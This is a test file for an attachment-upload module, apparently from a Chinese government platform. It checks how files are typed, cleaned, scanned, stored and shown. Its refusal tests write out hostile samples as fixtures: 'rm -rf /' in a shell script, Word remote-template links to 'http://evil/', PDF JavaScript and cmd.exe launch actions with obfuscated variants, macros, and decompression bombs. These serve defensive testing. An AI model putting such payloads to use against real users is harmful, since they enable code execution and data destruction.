/** Attachments: what is taken, what is refused, what is left out, and who sees them. */
import { chmod, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { actAt } from '@xincheng/testkit/platform';
import { attachFile, readAttachment, readAttachments } from '@xincheng/usecases/attachments';
import type { Attached } from '@xincheng/usecases/attachments';
import { commandScanner } from '@xincheng/usecases/scanning';
import { openZip } from '@xincheng/usecases/workbook';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jpeg, office, packedPdf, pdf, png, zip } from './_attachments.ts';
import { openDesk } from './_intake.ts';
import type { Desk } from './_intake.ts';

const AT = '2026-11-26T10:00';
const UNIT = 'lc-scjg';
const OTHER = 'lc-xzsp';

let desk: Desk;

beforeAll(async () => {
  desk = await openDesk();
});

afterAll(() => desk.close());

async function attach(bytes: Buffer, fileName = '说明.pdf', ownerId = '1') {
  return attachFile(desk.platform, actAt(AT, [UNIT]), { ownerKind: 'plan-progress', ownerId, unitId: UNIT, fileName, bytes });
}

async function taken(bytes: Buffer, fileName?: string): Promise<Attached & { readonly content: Buffer }> {
  const attached = await attach(bytes, fileName);
  if (!attached.ok) throw new Error(attached.error.message);
  const read = await readAttachment(desk.platform, actAt(AT, [UNIT]), attached.value.id);
  if (!read.ok) throw new Error(read.error.message);
  return { ...attached.value, content: read.value.bytes };
}

async function codeOf(bytes: Buffer, fileName?: string): Promise<string> {
  const attached = await attach(bytes, fileName);
  if (!attached.ok) expect(attached.error.message).toMatch(/^\P{Cc}*\p{Script=Han}\P{Cc}*。$/u);
  return attached.ok ? attached.value.kind : attached.error.code;
}

describe('a file is taken by what it is', () => {
  it.each([
    ['pdf', '通知.exe', '通知.exe.pdf', () => pdf()],
    ['png', 'C:\\图\\现场.PNG', '现场.PNG', () => png()],
    ['jpeg', '现场', '现场.jpg', () => jpeg()],
    ['docx', '总结.docx', '总结.docx', () => office('docx')],
    ['xlsx', '台账.csv', '台账.csv.xlsx', () => office('xlsx')],
    ['ofd', '公文.ofd', '公文.ofd', () => zip({ 'OFD.xml': '<ofd:OFD/>', 'Doc_0/Document.xml': '<x/>' })],
    ['text', '../../名单.csv', '名单.csv', () => Buffer.from('名称,代码\n甲,1\n')],
    ['text', 'a\u202egnp.js', 'agnp.js.txt', () => Buffer.from('alert(1)')],
    ['text', '国标.txt', '国标.txt', () => Buffer.from([0xd6, 0xd0, 0xb9, 0xfa])],
  ] as const)('%s under the name %s', async (kind, name, shown, make) => {
    const file = await taken(await make(), name);
    expect([file.kind, file.fileName, file.scan, file.keepUntil, file.keepBasis]).toEqual([
      kind,
      shown,
      'not-scanned',
      '2036-11-26',
      'platform-choice',
    ]);
    expect(BigInt(file.content.length)).toBe(file.bytes);
  });

  it('and without what it tells of people and places', async () => {
    for (const make of [() => png({ behind: 'SECRET' }), () => jpeg(), () => office('docx'), () => office('xlsx')]) {
      const bytes = await make();
      const { content, kind } = await taken(bytes, 'x');
      expect([kind, content.toString('latin1').includes('SECRET')]).toEqual([kind, false]);
      if (kind !== 'docx' && kind !== 'xlsx') continue;
      const archive = await openZip(content);
      expect(archive.entries.map(({ name }) => name)).toEqual((await openZip(bytes)).entries.map(({ name }) => name));
      const core = archive.find('docProps/core.xml');
      let text = '';
      if (core !== null) for await (const block of archive.read(core)) text += Buffer.from(block).toString();
      expect(text).toContain('coreProperties');
      expect(text).not.toContain('SECRET');
    }
  });

  it('and a photograph stays the right way up', async () => {
    const turned = (await taken(jpeg(6), 'a.jpg')).content;
    expect(turned.includes(Buffer.from([0xff, 0xe1]))).toBe(true);
    expect(turned.subarray(-9)).toEqual(Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd3, 0x56, 0xff, 0xd9]));
    // Cleaning what is clean changes nothing.
    expect((await taken(turned, 'b.jpg')).content.equals(turned)).toBe(true);
    expect((await taken(jpeg(1), 'c.jpg')).content.includes(Buffer.from([0xff, 0xe1]))).toBe(false);
  });
});

/** The relations of a document's settings: what they point at is fetched by whoever opens the file. */
function pointing(relation: string): Promise<Buffer> {
  return office('docx', { 'word/_rels/settings.xml.rels': `<Relationships>${relation}</Relationships>` });
}

const TEMPLATE = 'Type="http://x/attachedTemplate"';

describe('a file is refused', () => {
  const bomb = 'x'.repeat(20 << 20);
  it.each([
    ['attachment-empty', 'x.pdf', () => Buffer.alloc(0)],
    ['attachment-too-large', 'x.txt', () => Buffer.alloc((20 << 20) + 1, 0x61)],
    ['attachment-no-name', '/../..', () => pdf()],
    ['attachment-name-too-long', '长'.repeat(121), () => pdf()],
    ['attachment-kind', '图.svg', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
    ['attachment-kind', '页.html', () => Buffer.from('\ufeff  <!DOCTYPE html><html></html>')],
    ['attachment-kind', '页.txt', () => Buffer.from('<b onclick=x>')],
    ['attachment-kind', '脚本.txt', () => Buffer.from('#!/bin/sh\nrm -rf /')],
    ['attachment-kind', '程序.pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)])],
    ['attachment-kind', '老.doc', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])],
    ['attachment-kind', '包.zip', () => zip({ 'a.txt': 'a' })],
    ['attachment-kind', '包.gz', () => gzipSync('a')],
    ['attachment-kind', '乱.txt', () => Buffer.from([1, 2, 3, 255, 254, 253])],
    ['attachment-kind', '图.gif', () => Buffer.from('GIF89a....')],
    ['attachment-active', '宏.docx', () => office('docx', { 'word/vbaProject.bin': 'x' })],
    ['attachment-active', '宏.docm', () => office('docm')],
    ['attachment-active', '宏表.xlsx', () => office('xlsx', { 'xl/macrosheets/sheet1.xml': 'x' })],
    ['attachment-active', '对象.docx', () => office('docx', { 'word/embeddings/oleObject1.bin': 'x' })],
    [
      'attachment-active',
      '模板.docx',
      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/x.dotm" TargetMode="External"/>`),
    ],
    [
      'attachment-active',
      '像链接.docx',
      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/hyperlink" TargetMode="External"/>`),
    ],
    [
      'attachment-active',
      '大于号.docx',
      () => pointing(`<Relationship Id="a>b" ${TEMPLATE} Target="http://evil/x" TargetMode="External"/>`),
    ],
    [
      'attachment-active',
      '引用.docx',
      () => pointing(`<Relationship Id="r" ${TEMPLATE} Target="http://evil/x" TargetMode="&#69;xternal"/>`),
    ],
    [
      'attachment-active',
      '前缀.docx',
      () => pointing(`<Relationship x:TargetMode="Internal" ${TEMPLATE} Target="http://evil/x" TargetMode="External"/>`),
    ],
    ['attachment-damaged', '关系.docx', () => office('docx', { 'word/_rels/settings.xml.rels': '<Relationships>' })],
    [
      'attachment-active',
      '引用宏.docx',
      () =>
        zip({
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEn&#97;bled.main+xml"/><Default Extension="x" ContentType="wordprocessingml"/></Types>',
          'word/document.xml': '<body/>',
        }),
    ],
    ['attachment-active', '动.pdf', () => pdf('3 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj')],
    ['attachment-active', '藏名.pdf', () => pdf('3 0 obj\n<</S/J#61vaScript/JS(x)>>\nendobj')],
    ['attachment-active', '藏流.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>')],
    ['attachment-active', '藏法.pdf', () => packedPdf('zzz', '/Filter/LZWDecode')],
    ['attachment-active', '藏远.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>', `/Filter/FlateDecode${' '.repeat(5000)}`)],
    ['attachment-active', '藏号.pdf', () => packedPdf('3 0 <</S/JavaScript/JS(x)>>', '/Filter/FlateDecode/X(1 0 obj)')],
    ['attachment-damaged', '双流.pdf', () => packedPdf('3 0 <<>>', '/Filter/FlateDecode/X(stream\n)')],
    ['attachment-active', '拆法.pdf', () => packedPdf('zzz', '/X(stream\nendstream)')],
    ['attachment-active', '假流.pdf', () => pdf('% stream\n3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n% endstream')],
    ['attachment-active', '嵌入.pdf', () => pdf('3 0 obj\n<</Type/EmbeddedFile>>\nendobj')],
    ['attachment-encrypted', '密.pdf', () => pdf('', '/Encrypt 9 0 R')],
    ['attachment-damaged', '断.pdf', () => pdf().subarray(0, 60)],
    ['attachment-damaged', '断.png', () => png().subarray(0, 60)],
    ['attachment-damaged', '断.jpg', () => jpeg().subarray(0, 40)],
    ['attachment-damaged', '断.docx', async () => (await office('docx')).subarray(0, 200)],
    ['attachment-bomb', '弹.docx', () => office('docx', { 'word/a.xml': bomb })],
    ['attachment-bomb', '弹.png', () => png({ width: 60_000, height: 60_000 })],
  ] as const)('%s: %s', async (code, name, make) => {
    const before = await desk.rows('select id from attachment');
    expect(await codeOf(await make(), name)).toBe(code);
    expect(await desk.rows('select id from attachment')).toEqual(before);
  });

  it('and none takes longer than its length, whatever it repeats', async () => {
    const begun = performance.now();
    expect(await codeOf(pdf('stream\n'.repeat(150_000)), 'a.pdf')).toBe('pdf');
    expect(await codeOf(pdf('#41'.repeat(6_000_000)), 'd.pdf')).toBe('pdf');
    expect(await codeOf(pdf('1 0 obj<</Type/ObjStm>>stream\n'.repeat(50_000)), 'b.pdf')).toBe('attachment-damaged');
    expect(await codeOf(await office('docx', { 'word/_rels/a.rels': '<'.repeat(1 << 20) }), 'c.docx')).toBe('attachment-damaged');
    expect(performance.now() - begun).toBeLessThan(15_000);
  });

  it('but a hyperlink, and a name that only looks like one, are no danger', async () => {
    const link =
      '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="http://a" TargetMode="External"/></Relationships>';
    expect(await codeOf(await office('docx', { 'word/_rels/document.xml.rels': link }), 'a.docx')).toBe('docx');
    expect(await codeOf(pdf('3 0 obj\n<</JavaScripture 1/XFAb 2>>\nendobj'), 'a.pdf')).toBe('pdf');
    expect(await codeOf(packedPdf('3 0 <</Title(x)>>'), 'b.pdf')).toBe('pdf');
  });

  it('whatever is done to a file, it is taken or refused with a sentence', async () => {
    const files = [pdf(), packedPdf('1 0 <<>>'), png(), jpeg(), await office('docx')];
    await fc.assert(
      fc.asyncProperty(fc.nat(4), fc.nat(), fc.nat(255), fc.boolean(), async (which, at, byte, isCut) => {
        const bytes = Buffer.from(files[which] ?? '');
        const place = at % bytes.length;
        bytes[place] = byte;
        expect(await codeOf(isCut ? bytes.subarray(0, place + 1) : bytes, 'x')).toMatch(/^[a-z-]+$/u);
      }),
      { numRuns: 100 },
    );
  });
});

describe('the scanner', () => {
  async function scannerOf(script: string): Promise<void> {
    const path = join(desk.folder, 'scan.sh');
    await writeFile(path, `#!/bin/sh\n${script}\n`);
    await chmod(path, 0o755);
    Object.assign(desk.platform, { scanner: commandScanner(path, 1000) });
  }

  it('refuses what it finds, notes what it passed, and says when it could not look', async () => {
    await scannerOf('echo "$1: Eicar-Test FOUND"; grep -q EICAR "$1" && exit 1; exit 0');
    const infected = await attach(Buffer.from('EICAR'), 'a.txt');
    expect(infected).toMatchObject({ ok: false, error: { code: 'attachment-infected' } });
    expect(infected.ok ? '' : infected.error.message).toContain('Eicar-Test FOUND');
    expect(await attach(Buffer.from('clean'), 'b.txt')).toMatchObject({ value: { scan: 'clean' } });
    await scannerOf('exit 2');
    expect(await attach(Buffer.from('two'), 'c.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
    await scannerOf('sleep 20');
    const begun = performance.now();
    expect(await attach(Buffer.from('late'), 'd.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
    expect(performance.now() - begun).toBeLessThan(10_000);
    Object.assign(desk.platform, { scanner: commandScanner('/nowhere/scan') });
    expect(await attach(Buffer.from('none'), 'e.txt')).toMatchObject({ value: { scan: 'not-scanned' } });
    expect(await readdir(desk.platform.home.temporary)).toEqual([]);
    Object.assign(desk.platform, { scanner: null });
  });
});

describe('an attached file', () => {
  it('lies sealed, once, under its hash', async () => {
    const first = await taken(Buffer.from('机密内容'), 'a.txt');
    const again = await taken(Buffer.from('机密内容'), 'b.txt');
    expect([again.id, again.isRepeat, again.fileName]).toEqual([first.id, true, 'a.txt']);
    const kept = await readdir(desk.platform.home.files);
    expect(kept.filter((name) => name.startsWith(first.sha256))).toEqual([first.sha256]);
    const elsewhere = await attach(Buffer.from('机密内容'), 'c.txt', '2');
    expect(elsewhere).toMatchObject({ value: { sha256: first.sha256, isRepeat: false } });
  });

  it('of another version is another one, also when it is sent again', async () => {
    const send = async (ownerVersion: number) => {
      const file = { ownerKind: 'register', ownerId: '1', unitId: UNIT, fileName: 'a.txt', bytes: Buffer.from('同样的') };
      const attached = await attachFile(desk.platform, actAt(AT, [UNIT]), { ...file, ownerVersion });
      return attached.ok ? attached.value : null;
    };
    const [first, second] = [await send(1), await send(2)];
    expect(await send(2)).toMatchObject({ id: second?.id, ownerVersion: 2, isRepeat: true });
    expect(await send(1)).toMatchObject({ id: first?.id, ownerVersion: 1, isRepeat: true });
  });

  it('whose file was lost is whole again when it is sent again', async () => {
    const { id, sha256 } = await taken(Buffer.from('丢过一次'), 'a.txt');
    await rm(join(desk.platform.home.files, sha256));
    expect(await taken(Buffer.from('丢过一次'), 'a.txt')).toMatchObject({ id, isRepeat: true });
  });

  it('is seen by its unit and the credit office; every look is logged', async () => {
    const { id } = await taken(Buffer.from('给谁看'), 'a.txt');
    const stranger = actAt(AT, [OTHER]);
    const office = { ...stranger, actor: { ...stranger.actor, scope: 'all' as const, units: [] } };
    expect(await readAttachment(desk.platform, stranger, id)).toMatchObject({ error: { code: 'no-such-attachment' } });
    expect(await readAttachments(desk.platform, stranger, 'plan-progress', '1')).toEqual([]);
    const seen = await readAttachments(desk.platform, office, 'plan-progress', '1');
    expect(seen.map((one) => one.id)).toContain(id);
    expect(await readAttachment(desk.platform, office, id)).toMatchObject({ ok: true });
    const acts = await desk.rows<{ act: string }>('select act from audit_event where object_id = $1 order by act', [id]);
    expect(acts.map(({ act }) => act)).toEqual(['attachment.add', 'attachment.look', 'attachment.look']);
  });

  it('is added in the name of a unit by who acts for it', async () => {
    const file = { ownerKind: 'plan-progress', ownerId: '1', unitId: UNIT, fileName: 'a.txt', bytes: Buffer.from('x') };
    expect(await attachFile(desk.platform, actAt(AT, [OTHER]), file)).toMatchObject({ error: { code: 'not-your-unit' } });
  });

  it('whose file is lost is told so, and is not logged as looked at', async () => {
    const { id, sha256 } = await taken(Buffer.from('将丢失'), 'a.txt');
    await rm(join(desk.platform.home.files, sha256));
    expect(await readAttachment(desk.platform, actAt(AT, [UNIT]), id)).toMatchObject({ error: { code: 'attachment-file-lost' } });
    await mkdir(desk.folder, { recursive: true });
    await writeFile(join(desk.platform.home.files, sha256), 'damaged');
    expect(await readAttachment(desk.platform, actAt(AT, [UNIT]), id)).toMatchObject({ error: { code: 'attachment-file-lost' } });
    await rm(join(desk.platform.home.files, sha256));
  });

  it('is refused where the district has set no rules', async () => {
    const pack = { ...desk.platform.pack, attachments: null };
    const file = { ownerKind: 'x', ownerId: '1', unitId: UNIT, fileName: 'a.txt', bytes: Buffer.from('x') };
    expect(await attachFile({ ...desk.platform, pack }, actAt(AT, [UNIT]), file)).toMatchObject({
      error: { code: 'attachments-not-set' },
    });
  });
});
